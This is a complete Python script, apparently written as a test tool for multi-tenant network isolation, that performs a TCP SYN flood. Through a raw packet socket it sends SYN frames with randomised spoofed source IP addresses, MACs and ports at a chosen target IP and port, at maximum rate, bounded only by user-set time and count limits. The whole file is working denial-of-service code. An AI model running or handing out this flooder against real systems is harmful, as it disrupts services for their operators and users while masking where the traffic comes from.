#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""synflood.py - a SYN flood from inside a tenant, bounded in time and count.

Run inside the attacker's namespace; sends through a packet socket on IFACE
TCP SYNs to --dst-ip:--dport (Ethernet destination --dst-mac), each from a
random source address inside --src-net (a /16 or /24 given as A.B.C.D/LEN)
and a random source MAC and port, with valid IPv4 and TCP checksums and an
MSS option, as fast as the socket takes them, for --seconds or --count
frames, whichever ends first. Nobody answers the SYN-ACKs.

Prints one JSON line: {"sent": N, "seconds": S}.
"""
import argparse
import ipaddress
import json
import random
import socket
import struct
import time

ETH_P_ALL = 0x0003


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn(src_ip, dst_ip, sport, dport, seq):
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (6 << 4), 0x02,
                      64240, 0, 0) + opts
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
    c = csum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                     random.getrandbits(16), 0x4000, 64, 6, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--dst-ip", required=True)
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--src-net", required=True)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--count", type=int, default=5_000_000)
    a = ap.parse_args()

    net = ipaddress.ip_network(a.src_net, strict=False)
    base, span = int(net.network_address), net.num_addresses
    dst_ip = socket.inet_aton(a.dst_ip)
    dst_mac = bytes(int(x, 16) for x in a.dst_mac.split(":"))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((a.iface, 0))
    # A pool of frames, cycled: building each one in Python would make the
    # flood slower than the stack it attacks.
    pool = []
    for _ in range(4096):
        src = struct.pack("!I", base + 2 + random.randrange(span - 3))
        smac = bytes([0x02]) + random.getrandbits(40).to_bytes(5, "big")
        pool.append(dst_mac + smac + b"\x08\x00" +
                    syn(src, dst_ip, random.randrange(1024, 65535), a.dport,
                        random.getrandbits(32)))
    sent, t0 = 0, time.monotonic()
    end = t0 + a.seconds
    while sent < a.count:
        for f in pool[:256]:
            try:
                s.send(f)
                sent += 1
            except OSError:
                time.sleep(0.0005)
        pool.append(pool.pop(0))
        if time.monotonic() >= end:
            break
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - t0, 2)}))


if __name__ == "__main__":
    main()
